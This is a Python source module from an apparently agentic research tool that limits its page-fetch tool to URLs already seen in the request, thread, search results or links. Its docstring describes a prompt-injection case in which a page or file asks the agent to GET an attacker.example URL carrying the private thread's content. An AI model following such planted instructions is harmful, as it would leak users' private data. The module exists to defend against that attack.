"""The URLs a run may fetch: only those that were seen, never ones the model composes.

No tool has side effects, but a fetch is a request: text in a page or a file could ask the agent
to GET `https://attacker.example/?d=<the private thread's content>`. So read_page opens only a URL
that appeared in the question or the thread (the request, notes, messages read), in search results,
or as a link on a page already read (the rule Anthropic's own web fetch tool follows); anything else
is refused with a tool result saying to search for it. A follow-up run inherits what its thread saw.

Seen, for this gate: the run's own set (the request's text, notes, thread messages read), every
source the citation registry holds (each search result and excerpt is one), and every link id issued
(links on pages read, links in the request). URLs compare after normalising what does not change the
request (scheme and host case, a default port, the fragment, an empty path).

The set lives in memory for the run and in a `SeenUrlStore` across runs (jobs.records.stores keeps it per
thread in Redis); refused URLs are recorded there too, so `deepthread inspect` can show them.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Protocol
from urllib.parse import urlsplit, urlunsplit

from ..display import domain_of

if TYPE_CHECKING:
    from .base import ToolContext, ToolResult

__all__ = ["MemorySeenUrls", "SeenUrlStore", "SeenUrls", "normalise", "urls_in"]

URL_IN_TEXT = re.compile(r"https?://[^\s<>|\"'`\])]+", re.IGNORECASE)
_TRAILING = ".,;:!?"
_DEFAULT_PORTS = {"http": 80, "https": 443}


def urls_in(text: str) -> list[str]:
    """The http(s) URLs written in `text` (Slack's `<url|label>` included), each once."""
    return list(dict.fromkeys(u.rstrip(_TRAILING) for u in URL_IN_TEXT.findall(text or "")))


def normalise(url: str) -> str:
    """What identifies the request: scheme and host lower-cased, default port and fragment dropped,
    an empty path as "/". The path and query stay exactly as written (they carry what is asked)."""
    try:
        parts = urlsplit(url.strip())
        port = parts.port
    except ValueError:
        return url.strip()
    scheme = parts.scheme.lower()
    host = (parts.hostname or "").lower()
    netloc = host if port in (None, _DEFAULT_PORTS.get(scheme)) else f"{host}:{port}"
    if parts.username or parts.password:
        netloc = f"{parts.username or ''}:{parts.password or ''}@{netloc}"
    return urlunsplit((scheme, netloc, parts.path or "/", parts.query, ""))


class SeenUrlStore(Protocol):
    """Where a thread's seen URLs outlive the run, and where refused fetches are recorded."""

    async def load(self) -> set[str]: ...

    async def add(self, urls: list[str]) -> None: ...

    async def refused(self, url: str) -> None: ...


class MemorySeenUrls:
    def __init__(self, urls: Iterable[str] = ()) -> None:
        self.urls = {normalise(u) for u in urls}
        self.refusals: list[str] = []

    async def load(self) -> set[str]:
        return set(self.urls)

    async def add(self, urls: list[str]) -> None:
        self.urls.update(urls)

    async def refused(self, url: str) -> None:
        self.refusals.append(url)


class SeenUrls:
    """The run's gate. `allows(url, ctx)` decides; `refusal(url)` is the tool result when it does not."""

    def __init__(self, store: SeenUrlStore | None = None, urls: Iterable[str] = ()) -> None:
        self.store: SeenUrlStore = store or MemorySeenUrls()
        self._urls: set[str] = set()
        self._pending: set[str] = set()  # seen since the last save
        self._saved_sources = 0
        self._saved_links = 0
        self.refused = 0  # fetches refused by this run
        self.add(*urls)

    async def load(self) -> None:
        """What the thread's earlier runs saw (a follow-up inherits them)."""
        self._urls |= await self.store.load()

    def add(self, *urls: str) -> None:
        for url in urls:
            key = normalise(url)
            if key not in self._urls:
                self._urls.add(key)
                self._pending.add(key)

    def add_text(self, *texts: str | None) -> None:
        """URLs written in text the run was given (the request, notes, messages of the thread)."""
        for text in texts:
            self.add(*urls_in(text or ""))

    def allows(self, url: str, ctx: ToolContext) -> bool:
        key = normalise(url)
        if key in self._urls:
            return True
        seen = {normalise(s.url) for s in ctx.registry.all()} | {normalise(u) for u in ctx.links.urls}
        return key in seen

    async def refusal(self, url: str) -> ToolResult:
        from .base import ToolResult  # base holds this gate in every ToolContext

        self.refused += 1
        await self.store.refused(url)
        return ToolResult(
            f"Not fetched: {domain_of(url)} was not opened, because read_page only opens URLs that appeared in "
            "the question or the thread, in web_search results, or as links on pages already read, and this "
            "exact URL did not (a URL composed or changed by hand, or asked for by a page or file, is refused "
            "so that nothing can be sent out through a fetch). To read this page, find it with web_search, "
            "or follow a link id (【12†…】) from a page you read.",
            is_error=True,
        )

    async def save(self, ctx: ToolContext) -> None:
        """Record what was seen since the last save (sources and link ids included) for the thread."""
        sources = ctx.registry.all()
        links = ctx.links.urls
        new = set(self._pending)
        new.update(
            normalise(s.url) for s in sources[self._saved_sources :] if s.url.startswith(("http://", "https://"))
        )
        new.update(normalise(u) for u in links[self._saved_links :])
        self._saved_sources, self._saved_links = len(sources), len(links)
        self._pending.clear()
        if new:
            await self.store.add(sorted(new))
